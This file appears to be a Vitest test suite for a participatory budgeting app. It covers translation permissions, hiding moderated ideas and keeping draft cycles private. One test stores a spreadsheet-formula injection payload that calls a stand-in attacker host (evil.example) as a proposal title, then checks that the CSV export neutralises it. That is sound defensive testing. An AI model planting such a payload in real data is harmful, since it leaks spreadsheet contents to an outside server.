import "./fresh-db";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { prisma } from "~/db/client.server";
import { hideIdea, ideasForProposal, mergeIdea } from "~/db/ideas.server";
import { createProposal } from "~/db/proposals.server";
import { publishResults, runTally } from "~/db/results.server";
import { decodeMessage } from "~/i18n/message";
import { action as translateAction, loader as translateLoader } from "~/routes/translate.$type.$id";
import { action as followAction } from "~/routes/follows";
import { loader as ideaLoader } from "~/routes/ideas.$id";
import { loader as proposalLoader } from "~/routes/proposals.$id";
import { loader as csvLoader } from "~/routes/results.export[.csv]";
import { args, browserFor, makeCycle, makeUser, settle, votingCycle } from "./fixtures";

// What Spanish readers see on the ballot is a translation: only the agency that costs a proposal (and the
// PB office) may write it, and never once voting has opened.
describe("who may translate a proposal, and until when", async () => {
  const { admin, staff: parks, cycle, proposalId } = await votingCycle();
  const transport = await makeUser(["staff"], "Transport");
  const url = `/translate/proposal/${proposalId}`;
  const params = { type: "proposal", id: proposalId };
  const spanish = { locale: "es", title: "CANCELADO: no vote por este", description: "Este proyecto fue cancelado." };
  const translateHref = async (who: typeof admin) =>
    ((await proposalLoader(args((await browserFor(who)).get(`/proposals/${proposalId}`), { id: proposalId }))) as { translateHref: string | null }).translateHref;

  it("refuses the staff of another agency (403), and offers them no link", async () => {
    await prisma.cycle.update({ where: { id: cycle.id }, data: { phase: "costing" } });
    const browser = await browserFor(transport);
    const read = (await settle(() => translateLoader(args(browser.get(url), params)))) as Response;
    expect(read.status).toBe(403);
    expect(decodeMessage(await read.text())?.key).toBe("translations:refusedAgency");
    expect(((await settle(() => translateAction(args(browser.post(url, spanish), params)))) as Response).status).toBe(403);
    expect(await translateHref(transport)).toBeNull();
    expect(await prisma.contentTranslation.count({ where: { targetId: proposalId } })).toBe(0);
  });

  it("lets the costing agency's staff translate it before voting", async () => {
    expect(await translateHref(parks)).toBe(url);
    const saved = (await translateAction(args((await browserFor(parks)).post(url, { locale: "es", title: "Árboles de sombra", description: "Veinte árboles de sombra junto al parque infantil." }), params))) as Response;
    expect(saved.status).toBe(302);
  });

  it("refuses every change once voting opens, the PB office's too (409), and says why", async () => {
    await prisma.cycle.update({ where: { id: cycle.id }, data: { phase: "voting" } });
    for (const who of [parks, admin]) {
      const refused = (await settle(async () => translateAction(args((await browserFor(who)).post(url, spanish), params)))) as Response;
      expect(refused.status).toBe(409);
      expect(decodeMessage(await refused.text())?.key).toBe("translations:lockedOnBallot");
      expect(await translateHref(who)).toBeNull();
    }
    const page = (await translateLoader(args((await browserFor(admin)).get(url), params))) as { locked: string | null };
    expect(decodeMessage(page.locked!)?.key).toBe("translations:lockedOnBallot");
    expect((await prisma.contentTranslation.findFirstOrThrow({ where: { targetId: proposalId } })).title).toBe("Árboles de sombra");
  });

  it("writes the results CSV so that a title cannot run as a spreadsheet formula", async () => {
    await prisma.proposal.update({ where: { id: proposalId }, data: { title: '=HYPERLINK("https://evil.example/?"&A2,"Shade trees")' } });
    await prisma.cycle.update({ where: { id: cycle.id }, data: { phase: "results" } });
    await runTally(cycle.id, admin);
    await publishResults(cycle.id, admin);
    const csv = Papa.parse<Record<string, string>>(await (await csvLoader(args((await browserFor(null)).get(`/results/export.csv?cycle=${cycle.slug}`)))).text(), { header: true, skipEmptyLines: true });
    expect(csv.data[0].project).toBe(`'=HYPERLINK("https://evil.example/?"&A2,"Shade trees")`);
  });
});

// A hidden idea (moderated: a name and an address in it, an insult) stays hidden everywhere, not only on the list.
describe("a hidden idea stays hidden", async () => {
  const admin = await makeUser(["admin", "resident"]);
  const delegate = await makeUser(["delegate", "resident"]);
  const staff = await makeUser(["staff"], "Parks");
  const cycle = await makeCycle(admin, "proposals");
  const [north] = cycle.districts;
  const [parks] = cycle.categories;
  const idea = (number: number, title: string) =>
    prisma.idea.create({ data: { cycleId: cycle.id, number, districtId: north.id, categoryId: parks.id, title, description: "A description long enough to be an idea." } });
  const kept = await idea(1, "Benches by the pond");
  const hidden = await idea(2, "Benches outside Jane Doe's house at 12 Elm Street");
  const developed = await createProposal(cycle.id, { title: "Pond benches", description: "Four benches around the pond.", districtId: north.id, categoryId: parks.id, ideaIds: [kept.id, hidden.id] }, delegate);
  if (!developed.ok) throw new Error(developed.error);
  const other = await idea(3, "Even more benches, near Jane Doe's house");
  const merged = await mergeIdea(other.id, kept.number, { wholeCycle: true }, delegate);
  expect(merged.ok).toBe(true);
  const shade = await idea(4, "Shade for the pond benches");
  const target = await idea(5, "Trees in front of Jane Doe's house at 12 Elm Street");
  expect((await mergeIdea(shade.id, target.number, { wholeCycle: true }, delegate)).ok).toBe(true);
  await hideIdea(hidden.id, "A resident's name and address", admin);
  await hideIdea(other.id, "A resident's name", admin);
  await hideIdea(target.id, "A resident's name and address", admin);

  it("is not listed on the idea it was merged into, nor on the proposal it fed", async () => {
    const page = (await ideaLoader(args((await browserFor(null)).get(`/ideas/${kept.id}`), { id: kept.id }))) as { idea: { mergedFrom: { title: string }[] } };
    expect(JSON.stringify(page)).not.toContain("Jane Doe");
    const proposal = (await proposalLoader(args((await browserFor(null)).get(`/proposals/${developed.proposal.id}`), { id: developed.proposal.id }))) as object;
    expect(JSON.stringify(proposal)).toContain("Benches by the pond");
    expect(JSON.stringify(proposal)).not.toContain("Jane Doe");
  });

  it("is not named on an idea that was merged with it: only its number, and that it was hidden", async () => {
    const page = (await ideaLoader(args((await browserFor(null)).get(`/ideas/${shade.id}`), { id: shade.id }))) as { idea: { mergedInto: { number: number; title: string | null } } };
    expect(page.idea.mergedInto).toMatchObject({ number: 5, title: null });
    expect(JSON.stringify(page)).not.toContain("Jane Doe");
  });

  it("is not offered to delegates for a new proposal, and a tampered form cannot use it", async () => {
    expect((await ideasForProposal(cycle.id, { wholeCycle: true })).map((i) => i.number)).toEqual([1]);
    const tampered = await createProposal(cycle.id, { title: "Elm Street benches", description: "Benches on Elm Street.", districtId: north.id, categoryId: parks.id, ideaIds: [hidden.id] }, delegate);
    expect(tampered.ok).toBe(false);
  });

  it("is not open to agency staff for translation (404); the PB office still sees it", async () => {
    const params = { type: "idea", id: hidden.id };
    const url = `/translate/idea/${hidden.id}`;
    expect(((await settle(async () => translateLoader(args((await browserFor(staff)).get(url), params)))) as Response).status).toBe(404);
    const post = (await settle(async () => translateAction(args((await browserFor(staff)).post(url, { locale: "es", title: "Bancas", description: "Una descripción cualquiera." }), params)))) as Response;
    expect(post.status).toBe(404);
    const office = (await translateLoader(args((await browserFor(admin)).get(url), params))) as { item: { title: string } };
    expect(office.item.title).toContain("Elm Street");
  });
});

// A cycle in draft is the PB office's alone (ideas imported from paper may already be in it).
describe("a draft cycle's ideas", async () => {
  const admin = await makeUser(["admin", "resident"]);
  const staff = await makeUser(["staff"], "Parks");
  const resident = await makeUser(["resident"]);
  const cycle = await makeCycle(admin, "draft");
  const idea = await prisma.idea.create({
    data: { cycleId: cycle.id, number: 1, districtId: cycle.districts[0].id, categoryId: cycle.categories[0].id, title: "Paper idea not yet public", description: "Collected at the library before the cycle opened." },
  });
  const params = { type: "idea", id: idea.id };
  const url = `/translate/idea/${idea.id}`;

  it("are not open to agency staff for translation (404, as if they did not exist); the PB office sees them", async () => {
    expect(((await settle(async () => translateLoader(args((await browserFor(staff)).get(url), params)))) as Response).status).toBe(404);
    const post = (await settle(async () => translateAction(args((await browserFor(staff)).post(url, { locale: "es", title: "Idea en papel", description: "Recogida en la biblioteca." }), params)))) as Response;
    expect(post.status).toBe(404);
    expect(await prisma.contentTranslation.count({ where: { targetId: idea.id } })).toBe(0);
    const office = (await translateLoader(args((await browserFor(admin)).get(url), params))) as { item: { title: string } };
    expect(office.item.title).toBe("Paper idea not yet public");
  });

  it("cannot be followed (404, as if they did not exist)", async () => {
    const followed = (await settle(async () => followAction(args((await browserFor(resident)).post("/follows", { targetType: "idea", targetId: idea.id, follow: "yes" }))))) as Response;
    expect(followed.status).toBe(404);
    expect(await prisma.follow.count({ where: { targetId: idea.id } })).toBe(0);
    // Nor is the PB office, who sees the idea, offered a Follow button that would be refused.
    const office = (await ideaLoader(args((await browserFor(admin)).get(`/ideas/${idea.id}`), { id: idea.id }))) as { canFollow: boolean };
    expect(office.canFollow).toBe(false);
  });
});
